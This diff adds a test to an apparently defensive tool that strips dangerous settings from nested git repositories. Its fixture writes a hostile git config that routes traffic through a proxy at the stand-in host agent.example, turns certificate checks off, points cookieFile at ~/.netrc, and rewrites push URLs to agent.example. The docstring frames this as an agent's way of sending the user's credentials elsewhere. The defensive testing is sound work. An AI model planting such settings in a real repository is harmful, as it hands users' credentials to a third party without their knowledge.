@@ -455,3 +455,31 @@ def test_a_repository_that_cannot_be_disarmed_is_named_not_a_traceback(home, mon
     assert git.disarm_repositories(str(project)) == [
         f"could not disarm the repository at {git_dir} (Permission denied): review it before running git there"
     ]
+
+
+def test_a_nested_repository_cannot_send_the_users_credentials_elsewhere(home):
+    """Nothing of these runs a program, but each sends what git carries (the user's credentials,
+    handed out by their credential helper for the real host) through or to a place the agent
+    chose, at the user's next fetch or push there: a proxy with certificate checks off, another
+    CA, a rewritten URL, an extra header."""
+    project = home / "project"
+    git_dir = nested_repo(project / "vendor" / "lib", (
+        '[http]\n\tproxy = http://agent.example:3128\n\tsslVerify = false\n\tsslCAInfo = /tmp/agent-ca.pem\n'
+        '\textraHeader = X-Debug: 1\n\tcookieFile = ~/.netrc\n'
+        '[http "https://github.com/"]\n\tproxy = http://agent.example:3128\n'
+        '[remote "origin"]\n\turl = https://github.com/user/lib.git\n\tproxy = http://agent.example:3128\n'
+        '\tpushurl = https://agent.example/lib.git\n'
+        '[url "https://agent.example/"]\n\tinsteadOf = https://github.com/\n\tpushInsteadOf = https://github.com/\n'
+        '[user]\n\tname = Kept Name\n'
+    ))
+    git.disarm_repositories(str(project))
+
+    def value(key: str) -> str:
+        return subprocess.run(["git", "config", "-f", str(git_dir / "config"), "--get-all", key],
+                              capture_output=True, text=True).stdout.strip()
+
+    for key in ("http.proxy", "http.sslverify", "http.sslcainfo", "http.extraheader", "http.cookiefile",
+                "http.https://github.com/.proxy", "remote.origin.proxy", "remote.origin.pushurl",
+                "url.https://agent.example/.insteadof", "url.https://agent.example/.pushinsteadof"):
+        assert value(key) == "", key
+    assert value("user.name") == "Kept Name" and value("remote.origin.url") == "https://github.com/user/lib.git"
